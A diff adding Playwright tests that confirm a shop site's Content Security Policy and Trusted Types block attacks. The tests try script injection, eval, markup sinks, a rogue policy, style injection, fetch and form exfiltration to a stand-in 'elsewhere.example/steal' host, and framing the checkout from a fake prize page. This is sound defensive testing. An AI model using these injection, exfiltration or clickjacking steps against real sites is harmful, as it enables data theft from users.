@@ -1,0 +1,161 @@
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { expect, test } from './fixtures';
+
+test.use({ mayBreakPolicy: true });
+
+test.beforeEach(async ({ visit }) => {
+  await visit('/terms');
+});
+
+test('an inline script does not run', async ({ page, log }) => {
+  await page
+    .evaluate(() => {
+      const frame = document.createElement('div');
+      document.body.append(frame);
+      const script = document.createElement('script');
+      script.append('window.owned = true');
+      frame.append(script);
+      const attribute = document.createElement('img');
+      try {
+        attribute.setAttribute('onerror', 'window.owned = true');
+      } catch {
+        // Trusted Types refuses it before the policy does.
+      }
+      attribute.src = '/media/none.svg';
+      frame.append(attribute);
+    })
+    .catch(() => undefined);
+  await expect.poll(() => log.violations.length).toBeGreaterThan(0);
+  await page.waitForTimeout(300);
+  expect(await page.evaluate(() => 'owned' in window)).toBe(false);
+});
+
+test('a string is never made into code', async ({ page }) => {
+  // A listener is called by the page itself, so the page's policy counts; the debugger would be let through.
+  await page.evaluate(() => {
+    const results: string[] = [];
+    const page = window as unknown as Record<string, (code: string) => unknown>;
+    const tries: Record<string, () => unknown> = {
+      eval: () => page.eval?.('window.owned = true'),
+      Function: () => (page.Function?.('window.owned = true') as () => void)(),
+      setTimeout: () => page.setTimeout?.('window.owned = true'),
+    };
+    document.addEventListener('try', () => {
+      for (const [name, attempt] of Object.entries(tries)) {
+        try {
+          attempt();
+        } catch (error) {
+          results.push(`${name}: ${(error as Error).name}`);
+        }
+      }
+      (window as unknown as { results: string[] }).results = results;
+    });
+    setTimeout(() => document.dispatchEvent(new Event('try')), 0);
+  });
+  await page.waitForTimeout(300);
+  expect(await page.evaluate(() => (window as unknown as { results: string[] }).results)).toEqual([
+    'eval: EvalError',
+    'Function: EvalError',
+    expect.stringMatching(/^setTimeout: (TypeError|EvalError)$/),
+  ]);
+  expect(await page.evaluate(() => 'owned' in window)).toBe(false);
+});
+
+test('a string is never made into markup', async ({ page, log }) => {
+  const refused = await page.evaluate(() => {
+    const element = document.createElement('div');
+    const tries: (() => void)[] = [
+      () => (element.innerHTML = '<b>x</b>'),
+      () => element.insertAdjacentHTML('beforeend', '<b>x</b>'),
+      () => document.body.setHTMLUnsafe('<b>x</b>'),
+      () => (document.createElement('iframe').srcdoc = '<b>x</b>'),
+      () => new DOMParser().parseFromString('<b>x</b>', 'text/html'),
+      () => (document.createElement('script').src = '/static/x.js'),
+    ];
+    return tries.map((attempt) => {
+      try {
+        attempt();
+        return 'let through';
+      } catch (error) {
+        return (error as Error).name;
+      }
+    });
+  });
+  expect(refused).toEqual(Array<string>(6).fill('TypeError'));
+  await expect.poll(() => log.violations.length).toBeGreaterThanOrEqual(6);
+});
+
+test('no other policy of trusted types can be made', async ({ page }) => {
+  const name = await page.evaluate(() => {
+    const types = (window as unknown as { trustedTypes: { createPolicy: (name: string, rules: object) => unknown } })
+      .trustedTypes;
+    try {
+      types.createPolicy('attacker', { createHTML: (text: string) => text });
+      return 'made';
+    } catch (error) {
+      return (error as Error).name;
+    }
+  });
+  expect(name).toBe('TypeError');
+});
+
+test('a style with text in it has no effect', async ({ page, log }) => {
+  await page.evaluate(() => {
+    const style = document.createElement('style');
+    style.textContent = 'body { outline: 7px solid rgb(1, 2, 3) !important; }';
+    document.head.append(style);
+    const attribute = document.createElement('p');
+    attribute.id = 'styled';
+    attribute.setAttribute('style', 'outline: 7px solid rgb(1, 2, 3)');
+    document.body.append(attribute);
+  });
+  const outlineOf = (selector: string) =>
+    page.locator(selector).evaluate((element) => getComputedStyle(element).outlineWidth);
+  expect(await outlineOf('body')).not.toBe('7px');
+  expect(await outlineOf('#styled')).not.toBe('7px');
+  await expect.poll(() => log.violations.length).toBeGreaterThanOrEqual(2);
+});
+
+test('nothing is sent or loaded from elsewhere', async ({ page, log }) => {
+  const sent = await page.evaluate(() =>
+    fetch('https://elsewhere.example/steal').then(
+      () => 'sent',
+      (error: unknown) => (error as Error).name,
+    ),
+  );
+  expect(sent).toBe('TypeError');
+  await page.evaluate(() => {
+    const form = document.createElement('form');
+    form.action = 'https://elsewhere.example/steal';
+    document.body.append(form);
+    form.requestSubmit();
+    const frame = document.createElement('iframe');
+    frame.src = 'https://elsewhere.example/';
+    document.body.append(frame);
+    const base = document.createElement('base');
+    base.href = 'https://elsewhere.example/';
+    document.head.append(base);
+  });
+  await expect
+    .poll(() => log.violations.map(({ directive }) => directive))
+    .toEqual(expect.arrayContaining(['connect-src', 'form-action', 'frame-src', 'base-uri']));
+  expect(log.requests.map((request) => new URL(request.url()).host)).not.toContain('elsewhere.example');
+});
+
+test('no other page can put the shop into a frame', async ({ page, shopUrl }) => {
+  const thief = createServer((_request, reply) => {
+    reply.setHeader('Content-Type', 'text/html');
+    reply.end(`<h1>Win a prize</h1><iframe src="${shopUrl}/checkout"></iframe>`);
+  });
+  await new Promise<void>((resolve) => thief.listen(0, '127.0.0.1', resolve));
+  try {
+    await page.goto(`http://127.0.0.1:${(thief.address() as AddressInfo).port}/`);
+    await page.waitForTimeout(500);
+    const [, framed] = page.frames();
+    expect(framed?.url()).toMatch(/^chrome-error:/);
+  } finally {
+    thief.closeAllConnections();
+    thief.close();
+  }
+});
